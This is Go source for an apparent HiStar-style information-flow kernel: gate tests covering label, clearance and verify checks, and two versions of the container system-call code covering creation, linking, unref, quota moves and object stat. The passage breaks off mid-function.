	lbl, _ := tc2.SelfLabel()
	clr, _ := tc2.SelfClearance()
	out, err := tc2.GateEnter(CEnt{root, gateID}, GateRequest{
		Label:     lbl.With(c, label.Star),
		Clearance: clr,
		Verify:    lbl,
	})
	if err != nil {
		t.Fatalf("gate enter: %v", err)
	}
	if string(out) != "ssh!" {
		t.Errorf("gate result = %q", out)
	}
	// The thread retains the ownership it acquired through the gate (until
	// it re-enters another gate or resets its label).
	lblAfter, _ := tc2.SelfLabel()
	if !lblAfter.Owns(c) {
		t.Error("thread should own c after entering the gate")
	}
}

func TestGateEnterRequestedLabelMustCoverTaint(t *testing.T) {
	k, tc := boot(t)
	root := k.RootContainer()
	v, _ := tc.CategoryCreate()

	gateID, err := tc.GateCreate(root, GateSpec{
		Label:     label.New(label.L1),
		Clearance: label.New(label.L2),
		Descrip:   "plain gate",
		Entry:     func(call *GateCallCtx) []byte { return []byte("ok") },
	})
	if err != nil {
		t.Fatal(err)
	}
	// A thread tainted v2 cannot request an untainted label across the gate:
	// (LTᴶ ⊔ LGᴶ)⋆ ⊑ LR fails.
	tid, _ := tc.ThreadCreate(root, ThreadSpec{
		Label:     label.New(label.L1, label.P(v, label.L2)),
		Clearance: label.New(label.L2),
	})
	tc2, _ := k.ThreadCall(tid)
	_, err = tc2.GateEnter(CEnt{root, gateID}, GateRequest{
		Label:     label.New(label.L1), // tries to shed the v2 taint
		Clearance: label.New(label.L2),
		Verify:    label.New(label.L1, label.P(v, label.L2)),
	})
	if !errors.Is(err, ErrLabel) {
		t.Errorf("shedding taint across a gate must fail: err=%v", err)
	}
	// Carrying the taint through is fine.
	out, err := tc2.GateEnter(CEnt{root, gateID}, GateRequest{
		Label:     label.New(label.L1, label.P(v, label.L2)),
		Clearance: label.New(label.L2),
		Verify:    label.New(label.L1, label.P(v, label.L2)),
	})
	if err != nil || string(out) != "ok" {
		t.Errorf("tainted gate call failed: %q, %v", out, err)
	}
}

func TestGateClearanceRestrictsCallers(t *testing.T) {
	k, tc := boot(t)
	root := k.RootContainer()
	x, _ := tc.CategoryCreateNamed("x")

	// A gate whose clearance is {x0, 2} can only be invoked by threads that
	// own x (any other thread has x at level 1 > 0).  This is exactly how the
	// login grant gate is protected (Section 6.2).
	gateID, err := tc.GateCreate(root, GateSpec{
		Label:     label.New(label.L1),
		Clearance: label.New(label.L2, label.P(x, label.L0)),
		Descrip:   "grant gate",
		Entry:     func(call *GateCallCtx) []byte { return []byte("granted") },
	})
	if err != nil {
		t.Fatal(err)
	}
	tid, _ := tc.ThreadCreate(root, ThreadSpec{Label: label.New(label.L1), Clearance: label.New(label.L2)})
	tc2, _ := k.ThreadCall(tid)
	_, err = tc2.GateEnter(CEnt{root, gateID}, GateRequest{
		Label: label.New(label.L1), Clearance: label.New(label.L2), Verify: label.New(label.L1),
	})
	if !errors.Is(err, ErrClearance) {
		t.Errorf("caller without x ownership must be rejected: err=%v", err)
	}
	// A thread owning x may call.
	tidX, _ := tc.ThreadCreate(root, ThreadSpec{
		Label:     label.New(label.L1, label.P(x, label.Star)),
		Clearance: label.New(label.L2, label.P(x, label.L3)),
	})
	tcX, _ := k.ThreadCall(tidX)
	out, err := tcX.GateEnter(CEnt{root, gateID}, GateRequest{
		Label:     label.New(label.L1, label.P(x, label.Star)),
		Clearance: label.New(label.L2, label.P(x, label.L3)),
		Verify:    label.New(label.L1, label.P(x, label.Star)),
	})
	if err != nil || string(out) != "granted" {
		t.Errorf("owner of x should pass the clearance check: %q, %v", out, err)
	}
}

func TestGateCreateRequiresPrivilege(t *testing.T) {
	k, tc := boot(t)
	root := k.RootContainer()
	c, _ := tc.CategoryCreate()
	// A thread that does not own c cannot mint a gate carrying c ⋆.
	tid, _ := tc.ThreadCreate(root, ThreadSpec{Label: label.New(label.L1), Clearance: label.New(label.L2)})
	tc2, _ := k.ThreadCall(tid)
	_, err := tc2.GateCreate(root, GateSpec{
		Label:     label.New(label.L1, label.P(c, label.Star)),
		Clearance: label.New(label.L2),
		Entry:     func(call *GateCallCtx) []byte { return nil },
	})
	if !errors.Is(err, ErrLabel) {
		t.Errorf("forging privilege in a gate must fail: err=%v", err)
	}
	// The owner can.
	if _, err := tc.GateCreate(root, GateSpec{
		Label:     label.New(label.L1, label.P(c, label.Star)),
		Clearance: label.New(label.L2),
		Entry:     func(call *GateCallCtx) []byte { return nil },
	}); err != nil {
		t.Errorf("owner creating gate: %v", err)
	}
}

func TestGateVerifyLabelMustBeProvable(t *testing.T) {
	k, tc := boot(t)
	root := k.RootContainer()
	c, _ := tc.CategoryCreate()
	gateID, _ := tc.GateCreate(root, GateSpec{
		Label:     label.New(label.L1),
		Clearance: label.New(label.L2),
		Entry: func(call *GateCallCtx) []byte {
			if call.Verify.Owns(c) {
				return []byte("owner")
			}
			return []byte("anon")
		},
	})
	tid, _ := tc.ThreadCreate(root, ThreadSpec{Label: label.New(label.L1), Clearance: label.New(label.L2)})
	tc2, _ := k.ThreadCall(tid)
	// Claiming ownership of c in the verify label without having it fails
	// the LT ⊑ LV check.
	_, err := tc2.GateEnter(CEnt{root, gateID}, GateRequest{
		Label:     label.New(label.L1),
		Clearance: label.New(label.L2),
		Verify:    label.New(label.L1, label.P(c, label.Star)),
	})
	if !errors.Is(err, ErrLabel) {
		t.Errorf("forged verify label must fail: err=%v", err)
	}
	// An honest verify label passes and the entry point sees it.
	out, err := tc2.GateEnter(CEnt{root, gateID}, GateRequest{
		Label:     label.New(label.L1),
		Clearance: label.New(label.L2),
		Verify:    label.New(label.L1),
	})
	if err != nil || string(out) != "anon" {
		t.Errorf("honest verify: %q, %v", out, err)
	}
	// The owner proving ownership is seen by the entry code.
	out, err = tc.GateEnter(CEnt{root, gateID}, GateRequest{
		Label:     label.New(label.L1, label.P(c, label.Star)),
		Clearance: label.New(label.L2, label.P(c, label.L3)),
		Verify:    label.New(label.L1, label.P(c, label.Star)),
	})
	if err != nil || string(out) != "owner" {
		t.Errorf("owner verify: %q, %v", out, err)
	}
}

func TestGateClosureArguments(t *testing.T) {
	k, tc := boot(t)
	root := k.RootContainer()
	gateID, _ := tc.GateCreate(root, GateSpec{
		Label:     label.New(label.L1),
		Clearance: label.New(label.L2),
		Closure:   []byte("retry-count-segment-id"),
		Entry: func(call *GateCallCtx) []byte {
			return append(append([]byte(nil), call.Closure...), call.Args...)
		},
	})
	out, err := tc.GateEnter(CEnt{root, gateID}, GateRequest{
		Label:     label.New(label.L1),
		Clearance: label.New(label.L2),
		Verify:    label.New(label.L1),
		Args:      []byte("+args"),
	})
	if err != nil {
		t.Fatal(err)
	}
	if string(out) != "retry-count-segment-id+args" {
		t.Errorf("closure/args = %q", out)
	}
}

func TestReturnGatePattern(t *testing.T) {
	// The §5.5 convention: a caller creates a return gate carrying its own
	// privileges, invokes a service gate tainted in a fresh category t, and
	// the service (unable to shed the taint itself) invokes the return gate
	// to restore the caller's privileges and untaint the result.
	k, tc := boot(t)
	root := k.RootContainer()

	// The "caller" is the boot thread; it owns nothing special yet.
	callerLbl, _ := tc.SelfLabel()
	callerClr, _ := tc.SelfClearance()

	// Allocate the return category r and the secrecy category tt.
	r, _ := tc.CategoryCreateNamed("r")
	tt, _ := tc.CategoryCreateNamed("t")
	callerLblOwned, _ := tc.SelfLabel()

	var restored bool
	returnGate, err := tc.GateCreate(root, GateSpec{
		Label:     callerLblOwned, // carries ownership of r and tt back
		Clearance: label.New(label.L2, label.P(r, label.L0), label.P(tt, label.L3)),
		Descrip:   "return gate",
		Entry: func(call *GateCallCtx) []byte {
			restored = true
			return call.Args
		},
	})
	if err != nil {
		t.Fatal(err)
	}

	// The service gate: runs with no special privilege.
	serviceGate, err := tc.GateCreate(root, GateSpec{
		Label:     label.New(label.L1),
		Clearance: label.New(label.L2, label.P(tt, label.L3)),
		Descrip:   "timestamp service",
		Entry: func(call *GateCallCtx) []byte {
			// Compute a "signature" over the (tainted) input, then return
			// through the return gate, which restores the caller's ownership
			// of tt so the result can be untainted.
			sig := append([]byte("signed:"), call.Args...)
			out, err := call.TC.GateEnter(CEnt{root, returnGate}, GateRequest{
				Label:     callerLblOwned,
				Clearance: callerClr.With(r, label.L3).With(tt, label.L3),
				// The verify label must carry the thread's current taint
				// (LT ⊑ LV) in addition to the ownership it proves.
				Verify: label.New(label.L1, label.P(r, label.Star), label.P(tt, label.L3)),
				Args:   sig,
			})
			if err != nil {
				return []byte("return-gate-failed: " + err.Error())
			}
			return out
		},
	})
	if err != nil {
		t.Fatal(err)
	}

	// Invoke the service tainted tt 3, granting r ⋆ so the return gate's
	// clearance check passes.
	out, err := tc.GateEnter(CEnt{root, serviceGate}, GateRequest{
		Label:     callerLbl.With(tt, label.L3).With(r, label.Star),
		Clearance: callerClr.With(tt, label.L3).With(r, label.L3),
		Verify:    label.New(label.L1, label.P(r, label.Star)),
		Args:      []byte("document"),
	})
	if err != nil {
		t.Fatalf("service gate call: %v", err)
	}
	if string(out) != "signed:document" {
		t.Errorf("result = %q", out)
	}
	if !restored {
		t.Error("return gate never ran")
	}
	finalLbl, _ := tc.SelfLabel()
	if !finalLbl.Owns(tt) || !finalLbl.Owns(r) {
		t.Errorf("caller should end owning r and t again, got %v", finalLbl.Format(k.CategoryAllocator()))
	}
}
