package kernel

import (
	"histar/internal/label"
)

// ContainerCreate creates a new container inside container d
// (id_t container_create).  The invoking thread must be able to write d
// (LT ⊑ LD ⊑ LTᴶ) and to allocate an object with label l (LT ⊑ l ⊑ CT).
// avoidTypes restricts which object types may be created in the new
// container or any of its descendants; quota bounds the storage usage
// charged to d.
func (tc *ThreadCall) ContainerCreate(d ID, l label.Label, descrip string, avoidTypes TypeMask, quota uint64) (ID, error) {
	tc.k.mu.Lock()
	defer tc.k.mu.Unlock()
	t, err := tc.self()
	if err != nil {
		return NilID, err
	}
	tc.k.count("container_create", t)
	if !label.ValidObjectLabel(l) {
		return NilID, ErrInvalid
	}
	parent, err := tc.k.lookupContainer(d)
	if err != nil {
		return NilID, err
	}
	if parent.immutable {
		return NilID, ErrImmutable
	}
	if parent.avoidTypes.Has(ObjContainer) {
		return NilID, ErrAvoidType
	}
	if !tc.k.canModify(t.lbl, parent.lbl) {
		return NilID, ErrLabel
	}
	if !label.CanAllocate(t.lbl, t.clearance, l) {
		return NilID, ErrLabel
	}
	// A container less tainted than its parent pre-authorizes a small
	// information flow (Section 3.2); the allocation rules already require
	// the creating thread to own every category where LD(c) < LD'(c), which
	// CanAllocate+canModify enforce, so no extra check is needed here.
	if quota == 0 {
		quota = 1 << 20
	}
	if err := tc.k.chargeLocked(parent, quota); err != nil {
		return NilID, err
	}
	nc := &container{
		header: header{
			id:      tc.k.newID(),
			objType: ObjContainer,
			lbl:     label.Intern(l),
			quota:   quota,
			descrip: truncDescrip(descrip),
		},
		parent:     d,
		entries:    make(map[ID]bool),
		avoidTypes: parent.avoidTypes | avoidTypes,
	}
	nc.usage = nc.footprint()
	tc.k.objects[nc.id] = nc
	parent.link(nc.id)
	nc.refs = 1
	return nc.id, nil
}

// ContainerGetParent returns the parent container of the container named by
// ce (container_get_parent).  The root container has no parent.
func (tc *ThreadCall) ContainerGetParent(ce CEnt) (ID, error) {
	tc.k.mu.Lock()
	defer tc.k.mu.Unlock()
	t, err := tc.self()
	if err != nil {
		return NilID, err
	}
	tc.k.count("container_get_parent", t)
	o, err := tc.k.resolve(t.lbl, ce)
	if err != nil {
		return NilID, err
	}
	c, ok := o.(*container)
	if !ok {
		return NilID, ErrNotContainer
	}
	if c.parent == NilID {
		return NilID, ErrNotFound
	}
	return c.parent, nil
}

// ContainerList returns the object IDs hard-linked into the container named
// by ce.  The invoking thread must be able to observe the container.
func (tc *ThreadCall) ContainerList(ce CEnt) ([]ID, error) {
	tc.k.mu.Lock()
	defer tc.k.mu.Unlock()
	t, err := tc.self()
	if err != nil {
		return nil, err
	}
	tc.k.count("container_list", t)
	o, err := tc.k.resolve(t.lbl, ce)
	if err != nil {
		return nil, err
	}
	c, ok := o.(*container)
	if !ok {
		return nil, ErrNotContainer
	}
	if !tc.k.canObserve(t.lbl, c.lbl) {
		return nil, ErrLabel
	}
	return c.list(), nil
}

// Link adds a hard link to the object named by src into container d.  The
// invoking thread must be able to write d and its clearance must be high
// enough to allocate objects at the target's label (Lsrc ⊑ CT).  The target
// object's quota must be fixed, since an object whose quota may change
// cannot be multiply linked (Section 3.3).
func (tc *ThreadCall) Link(d ID, src CEnt) error {
	tc.k.mu.Lock()
	defer tc.k.mu.Unlock()
	t, err := tc.self()
	if err != nil {
		return err
	}
	tc.k.count("container_link", t)
	dest, err := tc.k.lookupContainer(d)
	if err != nil {
		return err
	}
	if dest.immutable {
		return ErrImmutable
	}
	if !tc.k.canModify(t.lbl, dest.lbl) {
		return ErrLabel
	}
	obj, err := tc.k.resolve(t.lbl, src)
	if err != nil {
		return err
	}
	h := obj.hdr()
	if h.objType == ObjContainer {
		// Containers have a single parent; only their creator links them.
		return ErrInvalid
	}
	if dest.avoidTypes.Has(h.objType) {
		return ErrAvoidType
	}
	if !tc.k.leq(h.lbl, t.clearance) {
		return ErrClearance
	}
	if !h.fixedQuota {
		return ErrFixedQuota
	}
	if dest.entries[h.id] {
		return ErrExists
	}
	// Conservatively double-charge: the full quota is charged to every
	// container holding a link.
	if err := tc.k.chargeLocked(dest, h.quota); err != nil {
		return err
	}
	dest.link(h.id)
	h.refs++
	return nil
}

// Unref removes the hard link to object o from container d.  The invoking
// thread must be able to write d.  When the last reference to an object is
// removed the object is deallocated; unreferencing a container recursively
// deallocates the subtree rooted at it.
func (tc *ThreadCall) Unref(d ID, o ID) error {
	tc.k.mu.Lock()
	defer tc.k.mu.Unlock()
	t, err := tc.self()
	if err != nil {
		return err
	}
	tc.k.count("container_unref", t)
	cont, err := tc.k.lookupContainer(d)
	if err != nil {
		return err
	}
	if !tc.k.canModify(t.lbl, cont.lbl) {
		return ErrLabel
	}
	if o == tc.k.rootID {
		return ErrRootContainer
	}
	if !cont.entries[o] {
		return ErrNoSuchObject
	}
	obj, err := tc.k.lookup(o)
	if err != nil {
		// Already gone; just clear the link.
		cont.unlink(o)
		return nil
	}
	cont.unlink(o)
	tc.k.refundLocked(cont, obj.hdr().quota)
	obj.hdr().refs--
	if obj.hdr().refs <= 0 {
		tc.k.deallocLocked(obj)
	}
	return nil
}

// deallocLocked removes an object from the object table, recursively
// unreferencing container contents and halting threads.
func (k *Kernel) deallocLocked(o object) {
	h := o.hdr()
	if h.dead {
		return
	}
	h.dead = true
	switch v := o.(type) {
	case *container:
		for _, child := range v.list() {
			co, err := k.lookup(child)
			if err != nil {
				continue
			}
			co.hdr().refs--
			if co.hdr().refs <= 0 {
				k.deallocLocked(co)
			}
		}
		v.entries = nil
		v.order = nil
	case *thread:
		v.halted = true
	case *device:
		// nothing extra
	}
	delete(k.objects, h.id)
}

// QuotaMove moves n bytes of quota from container d to object o contained in
// it (int quota_move): o's quota and d's usage both grow by n.  The invoking
// thread must be able to write d (LT ⊑ LD ⊑ LTᴶ) and allocate at o's label
// (LT ⊑ LO ⊑ CT).  When n is negative the call can fail if o has fewer than
// |n| spare bytes, which conveys information about o, so the thread must
// additionally be able to observe o (LO ⊑ LTᴶ).
func (tc *ThreadCall) QuotaMove(d ID, o ID, n int64) error {
	tc.k.mu.Lock()
	defer tc.k.mu.Unlock()
	t, err := tc.self()
	if err != nil {
		return err
	}
	tc.k.count("quota_move", t)
	cont, err := tc.k.lookupContainer(d)
	if err != nil {
		return err
	}
	if !cont.entries[o] {
		return ErrNoSuchObject
	}
	obj, err := tc.k.lookup(o)
	if err != nil {
		return err
	}
	h := obj.hdr()
	if !tc.k.canModify(t.lbl, cont.lbl) {
		return ErrLabel
	}
	if !tc.k.leq(t.lbl, h.lbl) || !tc.k.leq(h.lbl, t.clearance) {
		return ErrLabel
	}
	if h.fixedQuota {
		return ErrFixedQuota
	}
	if n >= 0 {
		if err := tc.k.chargeLocked(cont, uint64(n)); err != nil {
			return err
		}
		h.quota += uint64(n)
		return nil
	}
	// Shrinking: returns an error when o has fewer than |n| spare bytes,
	// thereby conveying information about o to the caller.
	if !tc.k.canObserve(t.lbl, h.lbl) {
		return ErrLabel
	}
	take := uint64(-n)
	spare := h.quota - obj.footprint()
	if h.quota < obj.footprint() || spare < take {
		return ErrQuota
	}
	h.quota -= take
	tc.k.refundLocked(cont, take)
	return nil
}

// ObjectStat returns the externally visible state of the object named by ce.
// The invoking thread must be able to read the containing container; in that
// case it may read the object's descriptive string and, unless the object is
// a thread, its label.  Thread labels are mutable, so reading another
// thread's label additionally requires LT′ᴶ ⊑ LTᴶ.
func (tc *ThreadCall) ObjectStat(ce CEnt) (Stat, error) {
	tc.k.mu.Lock()
	defer tc.k.mu.Unlock()
	t, err := tc.self()
	if err != nil {
		return Stat{}, err
	}
	tc.k.count("object_stat", t)
	obj, err := tc.k.resolve(t.lbl, ce)
	if err != nil {
		return Stat{}, err
	}
	h := obj.hdr()
	st := Stat{
		ID:         h.id,
		Type:       h.objType,
		Quota:      h.quota,
		Usage:      obj.footprint(),
		FixedQuota: h.fixedQuota,
		Immutable:  h.immutable,
		Descrip:    h.descrip,
		Metadata:   h.metadata,
	}
	if th, ok := obj.(*thread); ok {
		// Thread labels are not immutable; expose them only when
		// LT'ᴶ ⊑ LTᴶ.
		if tc.k.leqRaised(th.lbl, t.lbl) {
			st.Label = th.lbl
		} else {
			return Stat{}, ErrLabel
		}
	} else {
		st.Label = h.lbl
	}
	return st, nil
}

// ObjectSetMetadata overwrites the 64 bytes of user-defined metadata on an
// object the thread can modify.
func (tc *ThreadCall) ObjectSetMetadata(ce CEnt, md [MetadataSize]byte) error {
	tc.k.mu.Lock()
	defer tc.k.mu.Unlock()
	t, err := tc.self()
	if err != nil {
		return err
	}
	tc.k.count("object_set_metadata", t)
	obj, err := tc.k.resolve(t.lbl, ce)
	if err != nil {
		return err
	}
	h := obj.hdr()
	if h.immutable {
		return ErrImmutable
	}
	if !tc.k.canModify(t.lbl, effectiveLabel(obj)) {
		return ErrLabel
	}
	h.metadata = md
	h.bump()
	return nil
}

// ObjectSetImmutable irrevocably marks the object read-only.
func (tc *ThreadCall) ObjectSetImmutable(ce CEnt) error {
	tc.k.mu.Lock()
	defer tc.k.mu.Unlock()
	t, err := tc.self()
	if err != nil {
		return err
	}
	tc.k.count("object_set_immutable", t)
	obj, err := tc.k.resolve(t.lbl, ce)
	if err != nil {
		return err
	}
	if !tc.k.canModify(t.lbl, effectiveLabel(obj)) {
		return ErrLabel
	}
	obj.hdr().immutable = true
	obj.hdr().bump()
	return nil
}

// ObjectSetFixedQuota sets the fixed-quota flag on an object, which must be
// set before the object can be hard linked into additional containers and
// can never be cleared.
func (tc *ThreadCall) ObjectSetFixedQuota(ce CEnt) error {
	tc.k.mu.Lock()
	defer tc.k.mu.Unlock()
	t, err := tc.self()
	if err != nil {
		return err
	}
	tc.k.count("object_set_fixed_quota", t)
	obj, err := tc.k.resolve(t.lbl, ce)
	if err != nil {
		return err
	}
	if !tc.k.canModify(t.lbl, effectiveLabel(obj)) {
		return ErrLabel
	}
	obj.hdr().fixedQuota = true
	obj.hdr().bump()
	return nil
}

// effectiveLabel is the label used for modify checks: gates use their gate
// label with ownership stripped to its storable form, threads their own
// label, everything else the object label.
func effectiveLabel(o object) label.Label {
	switch v := o.(type) {
	case *gate:
		return v.gateLabel.LowerStar()
	default:
		return o.hdr().lbl
	}
}
