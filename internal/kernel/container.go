package kernel

import (
	"histar/internal/label"
)

// ContainerCreate creates a new container inside container d
// (id_t container_create).  The invoking thread must be able to write d
// (LT ⊑ LD ⊑ LTᴶ) and to allocate an object with label l (LT ⊑ l ⊑ CT).
// avoidTypes restricts which object types may be created in the new
// container or any of its descendants; quota bounds the storage usage
// charged to d.
func (tc *ThreadCall) ContainerCreate(d ID, l label.Label, descrip string, avoidTypes TypeMask, quota uint64) (ID, error) {
	ctx, err := tc.enter(scContainerCreate)
	if err != nil {
		return NilID, err
	}
	if !label.ValidObjectLabel(l) {
		return NilID, ErrInvalid
	}
	parent, err := tc.k.lookupContainer(d)
	if err != nil {
		return NilID, err
	}
	if parent.avoidTypes.Has(ObjContainer) {
		return NilID, ErrAvoidType
	}
	if !tc.k.canModifyT(ctx.t, ctx.lbl, parent.lbl) {
		return NilID, ErrLabel
	}
	if !label.CanAllocate(ctx.lbl, ctx.clearance, l) {
		return NilID, ErrLabel
	}
	// A container less tainted than its parent pre-authorizes a small
	// information flow (Section 3.2); the allocation rules already require
	// the creating thread to own every category where LD(c) < LD'(c), which
	// CanAllocate+canModify enforce, so no extra check is needed here.
	if quota == 0 {
		quota = 1 << 20
	}
	nc := &container{
		header: header{
			id:      tc.k.newID(),
			objType: ObjContainer,
			lbl:     label.Intern(l),
			quota:   quota,
			descrip: truncDescrip(descrip),
			refs:    1,
		},
		parent:     d,
		entries:    make(map[ID]bool),
		avoidTypes: parent.avoidTypes | avoidTypes,
	}
	nc.usage = nc.footprint()
	parent.mu.Lock()
	defer parent.mu.Unlock()
	if !liveLocked(parent) {
		return NilID, ErrNoSuchObject
	}
	if parent.immutable {
		return NilID, ErrImmutable
	}
	if err := tc.k.charge(parent, quota); err != nil {
		return NilID, err
	}
	tc.k.insert(nc)
	parent.link(nc.id)
	return nc.id, nil
}

// ContainerGetParent returns the parent container of the container named by
// ce (container_get_parent).  The root container has no parent.
func (tc *ThreadCall) ContainerGetParent(ce CEnt) (ID, error) {
	ctx, err := tc.enter(scContainerGetParent)
	if err != nil {
		return NilID, err
	}
	_, obj, err := tc.k.peek(ctx, ce)
	if err != nil {
		return NilID, err
	}
	c, ok := obj.(*container)
	if !ok {
		return NilID, ErrNotContainer
	}
	// parent is immutable after creation; no lock on c needed.
	if c.parent == NilID {
		return NilID, ErrNotFound
	}
	return c.parent, nil
}

// containerEntries resolves ce as an observable container and snapshots its
// entry list under the standard resolve-lock-verify protocol; shared by
// ContainerList and ContainerFindLabeled so the protocol lives in one place.
func (tc *ThreadCall) containerEntries(ctx tctx, ce CEnt) ([]ID, error) {
	cont, obj, err := tc.k.peek(ctx, ce)
	if err != nil {
		return nil, err
	}
	c, ok := obj.(*container)
	if !ok {
		return nil, ErrNotContainer
	}
	if !tc.k.canObserveT(ctx.t, ctx.lbl, c.lbl) {
		return nil, ErrLabel
	}
	ls := lockOrdered(objLock{cont, false}, objLock{c, false})
	defer ls.unlock()
	if err := verifyEntryLive(cont, c); err != nil {
		return nil, err
	}
	return c.list(), nil
}

// ContainerList returns the object IDs hard-linked into the container named
// by ce.  The invoking thread must be able to observe the container.
func (tc *ThreadCall) ContainerList(ce CEnt) ([]ID, error) {
	ctx, err := tc.enter(scContainerList)
	if err != nil {
		return nil, err
	}
	return tc.containerEntries(ctx, ce)
}

// ContainerFindLabeled returns the object IDs hard-linked into the container
// named by ce whose information-flow label has fingerprint fp — the kernel
// face of the store's fingerprint-keyed label index: "every object tainted
// exactly like L" without materializing or comparing a single label, since
// fingerprints are precomputed at label construction.  The invoking thread
// must be able to observe the container; entries whose labels the thread
// cannot observe are silently skipped, so the result reveals no more than a
// ContainerList followed by per-object stats would.
func (tc *ThreadCall) ContainerFindLabeled(ce CEnt, fp label.Fingerprint) ([]ID, error) {
	ctx, err := tc.enter(scContainerFindLabeled)
	if err != nil {
		return nil, err
	}
	ids, err := tc.containerEntries(ctx, ce)
	if err != nil {
		return nil, err
	}
	var out []ID
	for _, id := range ids {
		o, err := tc.k.lookup(id)
		if err != nil {
			continue // unlinked or deallocated since the snapshot
		}
		// One object at a time, read lock only: thread labels are mutable
		// (replaced wholesale under the header lock), so the read must be
		// under the lock; no second object lock is ever held.
		h := o.hdr()
		h.mu.RLock()
		lbl := h.lbl
		h.mu.RUnlock()
		if lbl.Fingerprint() != fp {
			continue
		}
		if !tc.k.canObserveT(ctx.t, ctx.lbl, lbl) {
			continue
		}
		out = append(out, id)
	}
	return out, nil
}

// Link adds a hard link to the object named by src into container d.  The
// invoking thread must be able to write d and its clearance must be high
// enough to allocate objects at the target's label (Lsrc ⊑ CT).  The target
// object's quota must be fixed, since an object whose quota may change
// cannot be multiply linked (Section 3.3).
func (tc *ThreadCall) Link(d ID, src CEnt) error {
	ctx, err := tc.enter(scContainerLink)
	if err != nil {
		return err
	}
	dest, err := tc.k.lookupContainer(d)
	if err != nil {
		return err
	}
	if !tc.k.canModifyT(ctx.t, ctx.lbl, dest.lbl) {
		return ErrLabel
	}
	srcCont, obj, err := tc.k.peek(ctx, src)
	if err != nil {
		return err
	}
	h := obj.hdr()
	if h.objType == ObjContainer {
		// Containers have a single parent; only their creator links them.
		return ErrInvalid
	}
	if dest.avoidTypes.Has(h.objType) {
		return ErrAvoidType
	}
	ls := lockOrdered(objLock{srcCont, false}, objLock{dest, true}, objLock{obj, true})
	defer ls.unlock()
	if !liveLocked(dest) {
		return ErrNoSuchObject
	}
	if dest.immutable {
		return ErrImmutable
	}
	if err := srcCont.verifyLinked(h.id); err != nil {
		return err
	}
	if !liveLocked(obj) {
		return ErrNoSuchObject
	}
	// Non-thread labels are immutable, but thread labels are not; read under
	// the object's lock either way.
	if !tc.k.leq(h.lbl, ctx.clearance) {
		return ErrClearance
	}
	if !h.fixedQuota {
		return ErrFixedQuota
	}
	if dest.entries[h.id] {
		return ErrExists
	}
	// Conservatively double-charge: the full quota is charged to every
	// container holding a link.
	if err := tc.k.charge(dest, h.quota); err != nil {
		return err
	}
	dest.link(h.id)
	h.refs++
	return nil
}

// Unref removes the hard link to object o from container d.  The invoking
// thread must be able to write d.  When the last reference to an object is
// removed the object is deallocated; unreferencing a container recursively
// deallocates the subtree rooted at it.
func (tc *ThreadCall) Unref(d ID, o ID) error {
	ctx, err := tc.enter(scContainerUnref)
	if err != nil {
		return err
	}
	cont, err := tc.k.lookupContainer(d)
	if err != nil {
		return err
	}
	if !tc.k.canModifyT(ctx.t, ctx.lbl, cont.lbl) {
		return ErrLabel
	}
	if o == tc.k.rootID {
		return ErrRootContainer
	}
	obj, lookupErr := tc.k.lookup(o)
	if lookupErr != nil {
		// The target is already gone; just clear the stale link, if any.
		cont.mu.Lock()
		defer cont.mu.Unlock()
		if !liveLocked(cont) {
			return ErrNoSuchObject
		}
		if !cont.entries[o] {
			return ErrNoSuchObject
		}
		cont.unlink(o)
		return nil
	}
	var orphans []ID
	ls := lockOrdered(objLock{cont, true}, objLock{obj, true})
	if !liveLocked(cont) {
		ls.unlock()
		return ErrNoSuchObject
	}
	if !cont.entries[o] {
		ls.unlock()
		return ErrNoSuchObject
	}
	cont.unlink(o)
	if liveLocked(obj) {
		h := obj.hdr()
		tc.k.refund(cont, h.quota)
		h.refs--
		if h.refs <= 0 {
			orphans = tc.k.deallocLocked(obj)
		}
	}
	ls.unlock()
	// Tear the subtree down with no locks held; releaseRefs locks one
	// object at a time.
	tc.k.releaseRefs(orphans)
	return nil
}

// QuotaMove moves n bytes of quota from container d to object o contained in
// it (int quota_move): o's quota and d's usage both grow by n.  The invoking
// thread must be able to write d (LT ⊑ LD ⊑ LTᴶ) and allocate at o's label
// (LT ⊑ LO ⊑ CT).  When n is negative the call can fail if o has fewer than
// |n| spare bytes, which conveys information about o, so the thread must
// additionally be able to observe o (LO ⊑ LTᴶ).
func (tc *ThreadCall) QuotaMove(d ID, o ID, n int64) error {
	ctx, err := tc.enter(scQuotaMove)
	if err != nil {
		return err
	}
	cont, err := tc.k.lookupContainer(d)
	if err != nil {
		return err
	}
	obj, err := tc.k.lookup(o)
	if err != nil {
		return err
	}
	if !tc.k.canModifyT(ctx.t, ctx.lbl, cont.lbl) {
		return ErrLabel
	}
	ls := lockOrdered(objLock{cont, true}, objLock{obj, true})
	defer ls.unlock()
	if !liveLocked(cont) || !liveLocked(obj) {
		return ErrNoSuchObject
	}
	if !cont.entries[o] {
		return ErrNoSuchObject
	}
	h := obj.hdr()
	if !tc.k.leq(ctx.lbl, h.lbl) || !tc.k.leq(h.lbl, ctx.clearance) {
		return ErrLabel
	}
	if h.fixedQuota {
		return ErrFixedQuota
	}
	if n >= 0 {
		if err := tc.k.charge(cont, uint64(n)); err != nil {
			return err
		}
		h.quota += uint64(n)
		return nil
	}
	// Shrinking: returns an error when o has fewer than |n| spare bytes,
	// thereby conveying information about o to the caller.
	if !tc.k.canObserveT(ctx.t, ctx.lbl, h.lbl) {
		return ErrLabel
	}
	take := uint64(-n)
	spare := h.quota - obj.footprint()
	if h.quota < obj.footprint() || spare < take {
		return ErrQuota
	}
	h.quota -= take
	tc.k.refund(cont, take)
	return nil
}

// ObjectStat returns the externally visible state of the object named by ce.
// The invoking thread must be able to read the containing container; in that
// case it may read the object's descriptive string and, unless the object is
// a thread, its label.  Thread labels are mutable, so reading another
// thread's label additionally requires LT′ᴶ ⊑ LTᴶ.
func (tc *ThreadCall) ObjectStat(ce CEnt) (Stat, error) {
	ctx, err := tc.enter(scObjectStat)
	if err != nil {
		return Stat{}, err
	}
	cont, obj, err := tc.k.peek(ctx, ce)
	if err != nil {
		return Stat{}, err
	}
	ls := lockOrdered(objLock{cont, false}, objLock{obj, false})
	defer ls.unlock()
	if err := verifyEntryLive(cont, obj); err != nil {
		return Stat{}, err
	}
	return tc.objectStatLocked(ctx, obj)
}

// objectStatLocked is ObjectStat's body once the object's lock is held (any
// mode) and liveness is verified; the ring executes it under a shared lock
// acquisition for a coalesced run of entries.
func (tc *ThreadCall) objectStatLocked(ctx tctx, obj object) (Stat, error) {
	h := obj.hdr()
	st := Stat{
		ID:         h.id,
		Type:       h.objType,
		Quota:      h.quota,
		Usage:      obj.footprint(),
		FixedQuota: h.fixedQuota,
		Immutable:  h.immutable,
		Descrip:    h.descrip,
		Metadata:   h.metadata,
	}
	if th, ok := obj.(*thread); ok {
